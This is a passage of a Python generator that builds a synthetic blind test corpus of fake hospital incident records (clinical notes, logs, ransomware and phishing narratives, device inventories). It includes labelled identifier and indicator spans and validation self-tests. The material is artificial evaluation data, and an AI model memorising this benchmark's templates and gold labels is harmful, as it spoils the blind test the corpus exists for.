                     w=X(wallet(rng), "WALLET"), s1=X(hexs(rng, 64), "SHA256"), s2=X(hexs(rng, 40), "SHA1"), ip6=X(pub_ip6(rng), "IPV6"))
        if fr.startswith("Play and Akira"):
            fr = fr.replace("Play and Akira", "{pl} and {ak}").replace("'Play'", "'{pl2}'")
            slots.update(pl=X("Play", "MALWARE"), ak=X("Akira", "MALWARE"), pl2=X("Play", "MALWARE"))
        if fr.startswith("Royal"):
            fr = fr.replace("Royal", "{r}", 1).replace("BlackSuit", "{bs}").replace("Medusa", "{me}").replace("Rhysida", "{rh}")
            slots.update(r=X("Royal", "MALWARE"), bs=X("BlackSuit", "MALWARE"), me=X("Medusa", "MALWARE"), rh=X("Rhysida", "MALWARE"))
        d.fill(fr, **{k: v for k, v in slots.items() if "{" + k + "}" in fr})
    d.fill("Our own exposure: {h} answered the scan from {ip}; patched by {who2}. Questions to {em}.\n",
           h=I(server(o, rng), "HOSTNAME"), ip=X(pub_ip(rng), "IPV4"), who2=nm(c.staff(), "first"), em=I(c.email(c.staff()), "EMAIL"))
    return d


def s_clinical(c):
    rng, o = c.rng, c.o
    p = c.patient(old=rng.random() < 0.3)
    att, ref = c.two_staff()
    adm = recent(rng)
    age = age_of(p.dob)
    d = Doc()
    d.fill(pick(rng,
                "The ransom note's 'proof pack' included this excerpt from our {kind}. It is real — {who} checked it against the chart.\n\n---\n",
                "Excerpt from the document the phishing page asked users to 'review' ({url}); it was lifted from our {kind}:\n\n---\n",
                "During downtime someone pasted a {kind} into the shared OneNote on {h}; that notebook was synced to {dom}.\n\n---\n"),
           kind=pick(rng, "radiology reports", "discharge summaries", "ED notes"), who=nm(c.staff(), "init"),
           url=X(url_ind(rng), "URL"), h=I(server(o, rng), "HOSTNAME"), dom=X(domain_ind(rng), "DOMAIN"))
    d.fill("{org}\n{kind}\nPatient: {pn}    MRN: {mrn}    DOB: {dob}    Age/Sex: {age} {sex}\nAdmitted: {adm}    Attending: {t} {att}\n"
           "Referring: {ref}    Acct#: {acct}\n\n",
           org=I(o.name, "ORG"), kind=pick(rng, "DISCHARGE SUMMARY", "CT ABDOMEN/PELVIS W CONTRAST", "XR CHEST 2 VIEWS", "ED PROVIDER NOTE"),
           pn=nm(p, pick(rng, "LF", "full", "mid")), mrn=I(p.mrn, "MRN"), dob=I(c.date(p.dob), "DATE"),
           age=(I(f"{age}Y", "AGE") if age >= 90 else N(f"{age}Y", "AGE_UNDER_90")), sex="F" if p.female else "M",
           adm=I(adm.strftime(pick(rng, "%m/%d/%Y %H:%M", "%Y-%m-%dT%H:%MZ", "%d-%b-%Y %H%M")), "DATETIME"),
           t=N("Dr.", "TITLE"), att=nm(att), ref=nm(ref, "LF"), acct=I(str(rng.randint(10 ** 6, 10 ** 9)), "ACCOUNT"))
    name_again = nm(p, "last") if p.latin() else nm(p)
    d.fill(pick(rng,
                "HISTORY: {age}-year-old {sexw} with {cc}. {t} {name} lives with {rel} {kin} at {addr}; she drives him to dialysis.\n"
                "IMPRESSION: {imp}.\n",
                "HOSPITAL COURSE: {t} {name} was admitted on {d1} with {cc}. Pacemaker {sn} interrogated, normal function. "
                "Discharged {d2} to home with {kin} ({rel}), {kph}.\n",
                "FINDINGS: {imp}. Compared with prior study of {d1}. Results called to {att2} at {tm} by {rad}.\n"),
           age=(I(str(age), "AGE") if age >= 90 else N(str(age), "AGE_UNDER_90")), sexw="woman" if p.female else "man",
           cc=pick(rng, "chest pain", "a fall at home", "sepsis from a urinary source", "abdominal pain"),
           t=N(c.title(p), "TITLE"), name=name_again, rel=pick(rng, "her son", "his daughter", "spouse"), kin=nm(c.patient()),
           addr=addr_inline(o, rng), imp=pick(rng, "No acute cardiopulmonary process", "Small bowel obstruction", "Left lower lobe pneumonia"),
           d1=I(c.date((adm - dt.timedelta(days=rng.randint(0, 3))).date()), "DATE"), d2=I(c.date((adm + dt.timedelta(days=rng.randint(2, 9))).date()), "DATE"),
           sn=I(device_serial(rng), "DEVICE_SERIAL"), kph=I(phone(o, rng), "PHONE"), att2=nm(att, "init"),
           tm=N(adm.strftime("%H:%M"), "TIME"), rad=nm(ref))
    d.fill("Electronically signed by {s} on {t}\n---\n", s=nm(att), t=ts(tick(adm, rng, 3600, 86400), "%m/%d/%Y %H:%M"))
    return d


def s_pharm_lab(c):
    rng, o = c.rng, c.o
    d = opening(c, ["Interface errors since the {fam} containment — pharmacy cabinets and the LIS can't reach {h}:\n\n",
                    "Omnicell / LIS error log ({h}) pasted for the vendor bridge:\n\n"],
                fam=X(rng.choice(MALWARE), "MALWARE"), h=I(server(o, rng), "HOSTNAME"))
    t = recent(rng)
    for _ in range(rng.randint(4, 8)):
        t = tick(t, rng, 5, 900)
        p = c.patient()
        pr = c.staff()
        k = rng.randint(0, 3)
        if k == 0:
            d.fill("{t} ERR 4402 RDE^O11 order {o} for {pn} ({mrn}) rejected: prescriber {pr} DEA {dea} not on file\n",
                   t=ts(t, "sp"), o=str(rng.randint(10 ** 5, 10 ** 7)), pn=nm(p, "LF"), mrn=I(p.mrn, "MRN"), pr=nm(pr, "LF"), dea=I(dea(pr, rng), "LICENSE"))
        elif k == 1:
            d.fill("{t} WARN cabinet {cab} override: {drug} for pt {pn}, rm {rm}, by {u} (witness {w})\n",
                   t=ts(t, "sp"), cab=I(host(o, rng, "upper-dept"), "HOSTNAME"), drug=pick(rng, "HYDROmorphone 2 mg", "midazolam 2 mg", "fentaNYL 100 mcg"),
                   pn=nm(p, "init"), rm=str(rng.randint(100, 700)), u=I(pr.user, "USERNAME"), w=I(c.staff().user, "USERNAME"))
        elif k == 2:
            d.fill("{t} LIS ORU send failed -> {h}:6661 (conn refused). Spec {acc} {pn} DOB {dob} collected {col} NPI {npi}\n",
                   t=ts(t, "sp"), h=I(lan_ip(o, rng), "IP"), acc=I(f"{rng.choice('ABCDEFGH')}{rng.randint(10 ** 6, 10 ** 8)}", "ACCOUNT"),
                   pn=nm(p, "LF"), dob=I(fmt_date(p.dob, "hl7"), "DATE"), col=I(tick(t, rng, -7200, -60).strftime("%Y%m%d%H%M"), "DATETIME"),
                   npi=I(npi(rng), "LICENSE"))
        else:
            d.fill("{t} ERROR label printer {pr} jammed; reprint queued for {pn} MRN {mrn} by {u}\n",
                   t=ts(t, "sp"), pr=I(host(o, rng, "upper-dept"), "HOSTNAME"), pn=nm(p), mrn=I(p.mrn, "MRN"), u=I(pr.user, "USERNAME"))
    return d


def s_proxy(c):
    rng, o = c.rng, c.o
    t = recent(rng)
    d = Doc()
    d.fill("Proxy log ({kind}) for {h}, the kiosk that was used to stage the upload:\n\n",
           kind=pick(rng, "Zscaler NSS", "Squid access.log", "Blue Coat"), h=I(host(o, rng), "HOSTNAME"))
    lip = I(lan_ip(o, rng), "IP")
    u = c.staff()
    tstyle = pick(rng, "sp", "iso")
    for _ in range(rng.randint(5, 9)):
        t = tick(t, rng, 1, 200)
        p = c.patient()
        if rng.random() < 0.5:
            url = I(pick(rng,
                         f"https://portal.{o.domain}/chart/summary?mrn={p.mrn}&dob={p.dob.isoformat()}",
                         f"https://results.{rng.choice(['labquest-online.com', 'imagingshare.net', 'mypatientlink.org'])}/r?pid={p.mrn}&last={ascii_fold(p.family).replace(' ', '') or 'x'}",
                         f"https://ehr.{o.domain}/Patient/{p.mrn}/documents"), "URL")
        else:
            url = X(url_ind(rng), "URL")
        d.fill("{t} {ip} {u} {m} {url} {st} {sz}\n", t=ts(t, tstyle), ip=lip,
               u=I(f"{o.netbios}\\{u.user}", "USERNAME"), m=pick(rng, "GET", "POST"), url=url, st=pick(rng, "200", "302", "403"),
               sz=str(rng.randint(300, 900000)))
    return d


L10N = {
    "es": ["Incidente {n}: la enfermera {st} avisó que la estación {h} mostraba una nota de {fam}. El equipo se aisló a las {tm}. "
           "En pantalla estaba abierta la historia de {p} (NHC {mrn}, nacido el {dob}, domicilio {addr}). "
           "Conexiones salientes a {ip}. Contacto de guardia: {oncall}, tel. {ph}.\n",
           "Correo de phishing recibido por {st} desde {am}; el enlace {url} pedía la contraseña de {org}. "
           "La cuenta {u} se usó después desde {ip} para descargar la agenda del día con datos de {p} ({ph2}).\n"],
    "fr": ["Incident {n} : {st} a signalé que le poste {h} affichait une note de rançon {fam} à {tm}. "
           "Le dossier de {p} (IPP {mrn}, né(e) le {dob}, domicilié(e) {addr}) était ouvert. Flux sortants vers {ip}. "
           "Astreinte : {oncall}, {ph}.\n",
           "Hameçonnage reçu par {st} depuis {am} ; le lien {url} imitait la page de connexion de {org}. "
           "Le compte {u} a ensuite été utilisé depuis {ip} pour exporter le planning avec les coordonnées de {p} ({ph2}).\n"],
    "de": ["Vorfall {n}: {st} meldete um {tm}, dass auf {h} ein {fam}-Erpresserschreiben angezeigt wurde. "
           "Geöffnet war die Akte von {p} (Fallnr. {mrn}, geb. {dob}, wohnhaft {addr}). Ausgehende Verbindungen zu {ip}. "
           "Rufbereitschaft: {oncall}, Tel. {ph}.\n",
           "Phishing-Mail an {st} von {am}; der Link {url} imitierte die Anmeldeseite von {org}. Das Konto {u} wurde danach von "
           "{ip} genutzt, um den OP-Plan mit Daten von {p} ({ph2}) herunterzuladen.\n"],
    "pt": ["Incidente {n}: a enfermeira {st} avisou às {tm} que a estação {h} exibia a nota do {fam}. Estava aberto o prontuário de "
           "{p} (prontuário {mrn}, nascido em {dob}, endereço {addr}). Conexões de saída para {ip}. Plantão: {oncall}, {ph}.\n",
           "Phishing recebido por {st} de {am}; o link {url} imitava o login do {org}. A conta {u} foi usada depois a partir de {ip} "
           "para baixar a agenda com dados de {p} ({ph2}).\n"],
    "it": ["Incidente {n}: alle {tm} {st} ha segnalato che la postazione {h} mostrava la nota di riscatto di {fam}. Era aperta la "
           "cartella di {p} (n. nosologico {mrn}, nato/a il {dob}, residente in {addr}). Connessioni in uscita verso {ip}. "
           "Reperibile: {oncall}, tel. {ph}.\n",
           "Phishing ricevuto da {st} da {am}; il link {url} imitava il login di {org}. L'account {u} è stato poi usato da {ip} "
           "per scaricare l'agenda con i dati di {p} ({ph2}).\n"],
    "nl": ["Incident {n}: {st} meldde om {tm} dat werkplek {h} een losgeldbericht van {fam} toonde. Het dossier van {p} "
           "(patiëntnummer {mrn}, geboren {dob}, adres {addr}) stond open. Uitgaande verbindingen naar {ip}. Dienstdoende: {oncall}, {ph}.\n",
           "Phishingmail aan {st} van {am}; de link {url} deed zich voor als de inlogpagina van {org}. Account {u} werd daarna vanaf "
           "{ip} gebruikt om de planning met gegevens van {p} ({ph2}) te downloaden.\n"],
    "pl": ["Incydent {n}: o {tm} {st} zgłosiła, że na stanowisku {h} pojawiła się notatka okupu {fam}. Otwarta była dokumentacja "
           "pacjenta {p} (nr historii {mrn}, ur. {dob}, zam. {addr}). Połączenia wychodzące do {ip}. Dyżur: {oncall}, tel. {ph}.\n",
           "Phishing do {st} z adresu {am}; link {url} podszywał się pod logowanie {org}. Konto {u} zostało potem użyte z {ip} "
           "do pobrania grafiku z danymi pacjenta {p} ({ph2}).\n"],
}


def s_l10n(c):
    rng, o = c.rng, c.o
    d = Doc()
    st = c.staff()
    for fr in rng.sample(L10N[o.lang], 2):
        p = c.patient()
        d.fill(fr + "\n", n=str(rng.randint(100, 9999)), st=nm(st, pick(rng, "full", "first")), h=I(host(o, rng), "HOSTNAME"),
               fam=X(rng.choice(MALWARE[:38]), "MALWARE"), tm=N(recent(rng).strftime("%H:%M"), "TIME"), p=nm(p),
               mrn=I(p.mrn, "MRN"), dob=I(c.date(p.dob), "DATE"), addr=addr_inline(o, rng), ip=X(pub_ip(rng), "IPV4"),
               oncall=nm(c.staff()), ph=I(phone(o, rng), "PHONE"), am=X(atk_mail(rng), "EMAIL"), url=X(url_ind(rng), "URL"),
               org=I(o.name, "ORG"), u=I(st.user, "USERNAME"), ph2=I(phone(o, rng), "PHONE"))
    return d


def s_asset(c):
    rng, o = c.rng, c.o
    d = opening(c, ["Medical devices seen talking to {ip} ({fam} C2) — export from the asset inventory:\n\n",
                    "Devices on the flat VLAN the attackers scanned from {ip} (they dropped {fam} on the jump host):\n\n"],
                ip=X(pub_ip(rng), "IPV4"), fam=X(rng.choice(MALWARE), "MALWARE"))
    rows = [["Device", "Model", "UDI / Serial", "Hostname", "IP", "Location", "Assigned patient", "Owner"]]
    for _ in range(rng.randint(4, 8)):
        p = c.patient()
        rows.append([pick(rng, "Infusion pump", "Ventilator", "Glucometer dock", "Telemetry pack", "Ultrasound"),
                     pick(rng, "Alaris 8015", "PB 980", "Sapphire", "IntelliVue MX40", "Vivid iq"),
                     I(device_serial(rng), "DEVICE_SERIAL"), I(host(o, rng, "upper-dept"), "HOSTNAME"), I(lan_ip(o, rng), "IP"),
                     pick(rng, "ICU bed 4", "5N-12", "ED bay 7", "Storage"),
                     nm(p, "LF") if rng.random() < 0.7 else "", nm(c.staff(), "full")])
    d.put(delimited(rows, "\t"))
    d.fill("\nBiomed contact: {who}, {ph}. The pumps report to {h} (our {kind}) at {ip2}.\n",
           who=nm(c.staff()), ph=I(phone(o, rng), "PHONE"), h=I(f"{host(o, rng, 'server')}.{o.domain}", "HOSTNAME"),
           kind=pick(rng, "PACS web viewer", "remote support portal"), ip2=I(lan_ip(o, rng), "IP"))
    return d


# ---------------------------------------------------------------------------------------------
# checks

SHAPE = {
    "IPV4": lambda v: ipaddress.ip_address(v).version == 4 and ipaddress.ip_address(v).is_global,
    "IPV6": lambda v: ipaddress.ip_address(v).version == 6 and ipaddress.ip_address(v).is_global,
    "SHA256": lambda v: re.fullmatch(r"[0-9a-fA-F]{64}", v) is not None,
    "SHA1": lambda v: re.fullmatch(r"[0-9a-f]{40}", v) is not None,
    "MD5": lambda v: re.fullmatch(r"[0-9a-f]{32}", v) is not None,
    "CVE": lambda v: re.fullmatch(r"CVE-\d{4}-\d{4,7}", v) is not None,
    "MITRE": lambda v: re.fullmatch(r"T[AS]?\d{4}(\.\d{3})?", v) is not None,
    "URL": lambda v: re.match(r"(https?|hxxps?)://", v) is not None,
    "DOMAIN": lambda v: re.fullmatch(r"[a-z0-9-]+(\.[a-z0-9-]+)*\.[a-z]{2,}", v) is not None,
    "EMAIL": lambda v: v.split("@")[-1] in FREEMAIL,
    "MALWARE": lambda v: v in MALWARE,
    "ACTOR": lambda v: v in ACTORS,
    "WALLET": lambda v: re.fullmatch(r"bc1q[02-9ac-hj-np-z]{38}|4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}", v) is not None,
    "PHONE_ATTACKER": lambda v: re.fullmatch(r"\+1 \d{3} \d{3} \d{4}", v) is not None,
}
ID_TYPES = {"NAME", "HOSTNAME", "USERNAME", "EMAIL", "DATE", "DATETIME", "ADDRESS", "CITY", "ORG", "ZIP",
            "PHONE", "FAX", "MRN", "IP", "ACCOUNT", "SSN", "HEALTH_PLAN", "DEVICE_SERIAL", "URL", "LICENSE",
            "AGE", "VEHICLE"}
NEU_TYPES = {"TIMESTAMP", "TITLE", "AGE_UNDER_90", "RESOURCE_ID", "TIME", "GEO_ATTACKER", "LETTER_DATE", "BADGE"}


def covered(spans, a, b):
    return any(s <= a and b <= e for s, e in spans)


def mentions(text, value, flags=0):
    return [(m.start(), m.end()) for m in re.finditer(r"(?<!\w)" + re.escape(value) + r"(?!\w)", text, flags)]


def check(rec, doc=None, org=None, parse=()):
    """Returns a list of problems (empty when the document is sound). Without doc and org (a
    record read back from the corpus file) the checks that need the generator's state are
    skipped: the placed values, the organization's short names and the JSON/XML parse."""
    text = rec["text"]
    bad = []
    ids = [(s["start"], s["end"]) for s in rec["identifiers"]]
    allsp = sorted([(s["start"], s["end"], "id", s["type"]) for s in rec["identifiers"]] +
                   [(s["start"], s["end"], "ind", s["type"]) for s in rec["indicators"]] +
                   [(s["start"], s["end"], "neu", s["type"]) for s in rec.get("neutral", [])])
    def word(ch):
        return ch.isascii() and ch.isalnum()

    for a, b, cat, typ in allsp:
        if not (0 <= a < b <= len(text)) or not text[a:b].strip():
            bad.append(f"span out of range or blank {a}-{b}")
        elif text[a:b] != text[a:b].strip():
            bad.append(f"span starts or ends on blank space {a}-{b}")
        elif (a > 0 and word(text[a - 1]) and word(text[a])) or (b < len(text) and word(text[b - 1]) and word(text[b])):
            bad.append(f"span cuts a word {cat}:{typ} {text[max(0, a - 3):b + 3]!r}")
    for (a1, b1, c1, t1), (a2, b2, c2, t2) in zip(allsp, allsp[1:]):
        if a2 < b1:
            bad.append(f"overlap {c1}:{t1} {text[a1:b1]!r} / {c2}:{t2} {text[a2:b2]!r}")
    # the spans are exactly the values placed, in order
    if doc is not None:
        placed = [(t, cat, typ) for t, cat, typ in doc.seg if cat]
        got = [(text[a:b], cat, typ) for a, b, cat, typ in sorted(allsp)]
        want = [(t, {ID: "id", IND: "ind", NEU: "neu"}[cat], typ) for t, cat, typ in placed]
        if got != want:
            bad.append("spans differ from the placed values")
    for s in rec["identifiers"]:
        v = text[s["start"]:s["end"]]
        if s["type"] not in ID_TYPES:
            bad.append(f"unknown identifier type {s['type']}")
        if s["type"] == "IP" and not ipaddress.ip_address(v).is_private:
            bad.append(f"identifier IP not private {v}")
        if s["type"] == "EMAIL" and v.split("@")[-1] in FREEMAIL and v.split("@")[0] in ATTACKER_LOCAL:
            bad.append(f"identifier e-mail looks like an attacker's {v}")
    for s in rec["indicators"]:
        v = text[s["start"]:s["end"]]
        f = SHAPE.get(s["type"])
        if f is None or not f(v):
            bad.append(f"indicator {s['type']} has the wrong shape: {v!r}")
    for s in rec.get("neutral", []):
        if s["type"] not in NEU_TYPES:
            bad.append(f"unknown neutral type {s['type']}")
    # every mention of an identifier (or of a name part of 4+ letters) lies inside an identifier span
    seen = set()
    for s in rec["identifiers"]:
        v = text[s["start"]:s["end"]]
        vals = [v]
        if s["type"] == "NAME":
            vals += [w for w in re.split(r"[\s,^.]+", v) if len(w) >= 4]
        for w in vals:
            if (w, s["type"]) in seen or len(w) < 4:
                continue
            seen.add((w, s["type"]))
            fl = re.I if s["type"] in ("USERNAME", "HOSTNAME", "EMAIL") else 0
            for a, b in mentions(text, w, fl):
                if not covered(ids, a, b):
                    bad.append(f"{s['type']} {w!r} mentioned outside a span at {a}")
    names = [(dm, re.I) for dm in rec["org"]["domains"]] + [(rec["org"]["name"], 0)]
    if org is not None:
        names += [(org.short, 0), (org.short.lower(), 0), (org.netbios, 0)]
    for v, fl in names:
        for a, b in mentions(text, v, fl):
            if not covered(ids, a, b):
                bad.append(f"organization string {v!r} outside a span at {a}")
    for kind, pd in parse:
        try:
            if kind == "json":
                json.loads(pd.plain())
            else:
                ET.fromstring(pd.plain().split("\n", 1)[1])
        except Exception as e:  # noqa: BLE001 - any parse failure is a broken document
            bad.append(f"{kind} does not parse: {e}")
    return bad


# ---------------------------------------------------------------------------------------------

STYLES = [
    ("hl7-v2", s_hl7, 18), ("fhir-json", s_fhir_json, 16), ("fhir-xml", s_fhir_xml, 14),
    ("dicom-dump", s_dicom, 16), ("x12-edi", s_x12, 16), ("ehr-audit-csv", s_audit_csv, 18),
    ("ehr-audit-jsonl", s_audit_json, 16), ("m365-audit-json", s_m365, 16), ("idp-syslog-json", s_signin, 14),
    ("vpn-citrix-log", s_vpn, 16), ("journald", s_journald, 16), ("powershell-transcript", s_powershell, 16),
    ("chat-export", s_chat, 20), ("itsm-ticket", s_ticket, 20), ("voicemail-transcript", s_voicemail, 16),
    ("ocr-fax", s_fax, 18), ("denial-letter", s_denial, 16), ("police-report", s_police, 14),
    ("pasted-sheet", s_sheet, 22), ("threat-brief", s_brief, 16), ("clinical-excerpt", s_clinical, 20),
    ("pharmacy-lab-errors", s_pharm_lab, 16), ("proxy-log", s_proxy, 16), ("non-english-note", s_l10n, 20),
    ("device-inventory", s_asset, 14),
]


def check_file(path):
    """Checks every record of a corpus file as read back; returns the number of problems."""
    n = 0
    with open(path, encoding="utf-8") as f:
        for line in f:
            rec = json.loads(line)
            for prob in check(rec):
                print(f"{rec['id']}: {prob}", file=sys.stderr)
                n += 1
    return n


def self_test(path):
    """The checks must catch broken gold: each corruption of a sound record is reported."""
    with open(path, encoding="utf-8") as f:
        recs = [json.loads(line) for line in f]
    rec = next(r for r in recs if r["indicators"] and len(r["identifiers"]) > 3 and
               any(s["type"] == "NAME" for s in r["identifiers"]))
    assert not check(rec), "a sound record fails its check"

    def corrupt(fn):
        r = json.loads(json.dumps(rec))
        fn(r)
        return check(r)

    name = next(k for k, s in enumerate(rec["identifiers"]) if s["type"] == "NAME")
    cut = next(k for k, s in enumerate(rec["identifiers"]) if re.search(r"[A-Za-z0-9]{2}$", rec["text"][s["start"]:s["end"]]))
    cases = {
        "out of range": lambda r: r["identifiers"][0].update(end=len(r["text"]) + 5),
        "span cut short": lambda r: r["identifiers"][cut].update(end=r["identifiers"][cut]["end"] - 1),
        "identifier over an indicator": lambda r: r["identifiers"].append(dict(r["indicators"][0], type="NAME")),
        "indicator of the wrong shape": lambda r: r["indicators"][0].update(type="CVE"),
        "a name left outside its span": lambda r: r.update(text=r["text"] + "\n" + r["text"][r["identifiers"][name]["start"]:r["identifiers"][name]["end"]]),
        "the organization's domain in plain text": lambda r: r.update(text=r["text"] + " see " + r["org"]["domains"][0]),
        "unknown type": lambda r: r["identifiers"][0].update(type="PHI"),
        "public identifier IP": lambda r: r.update(text=r["text"] + " 8.8.8.8") or r["identifiers"].append(
            {"start": len(r["text"]) - 7, "end": len(r["text"]), "type": "IP"}),
    }
    for what, fn in cases.items():
        assert corrupt(fn), f"self-test: the check misses: {what}"
    print(f"self-test: {len(cases)} kinds of broken gold all caught", file=sys.stderr)


def main():
    if sys.argv[1:2] == ["--check"]:
        path = sys.argv[2] if len(sys.argv) > 2 else os.path.join(HERE, "..", "blind2", "blind2.jsonl")
        n = check_file(path)
        self_test(path)
        print(f"check: {n} problems in {path}", file=sys.stderr)
        sys.exit(1 if n else 0)
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "..", "blind2", "blind2.jsonl")
    orgs = [make_org(ORG_LOCALES[k % len(ORG_LOCALES)], R) for k in range(3 * len(ORG_LOCALES))]
    plan = [(name, fn) for name, fn, n in STYLES for _ in range(n)]
    R.shuffle(plan)
    records, redraws = [], Counter()
    for i, (name, fn) in enumerate(plan):
        for attempt in range(50):
            rng = random.Random(SEED * 100003 + i * 101 + attempt)
            if name == "non-english-note":
                pool = [o for o in orgs if o.lang in L10N]
            elif name == "voicemail-transcript":
                pool = [o for o in orgs if o.loc in ("en_US", "en_CA")]
            else:
                pool = orgs
            org = rng.choice(pool)
            c = Ctx(rng, org)
            doc = fn(c)
            rec = record(f"blind2-{i + 1:04d}", doc, name, org.loc, {"name": org.name, "domains": list(org.domains)})
            problems = check(rec, doc, org, c.parse)
            if not problems:
                records.append(rec)
                break
            redraws[name] += 1
            if os.environ.get("BLIND2_DEBUG"):
                print(name, problems[:3], file=sys.stderr)
        else:
            sys.exit(f"gen_blind2.py: {name} failed its checks 50 times: {problems[:5]}")
    os.makedirs(os.path.dirname(os.path.abspath(out)), exist_ok=True)
    digest = write_corpus(out, records)
    # read the file back: the offsets must hold on the JSON as written
    with open(out, encoding="utf-8") as f:
        back = [json.loads(line) for line in f]
    assert back == records
    assert check_file(out) == 0
    manifest(os.path.join(os.path.dirname(os.path.abspath(out)), "MANIFEST.md"), "Blind corpus 2 (blind2)",
             os.path.basename(out), SEED, "gen/gen_blind2.py", records,
             "Blind: written without access to the scrubber's rules, results or the other generators' "
             "templates; run only at the end, by the lead (see README.md).")
    ids = Counter(s["type"] for r in records for s in r["identifiers"])
    inds = Counter(s["type"] for r in records for s in r["indicators"])
    words = sum(len(other_words(r)) for r in records)
    print(f"{out}: {len(records)} documents, {sum(ids.values())} identifiers, {sum(inds.values())} indicators, "
          f"{words} other words; sha256 {digest}; redrawn after a failed check: {sum(redraws.values())} {dict(redraws)}",
          file=sys.stderr)


if __name__ == "__main__":
    main()
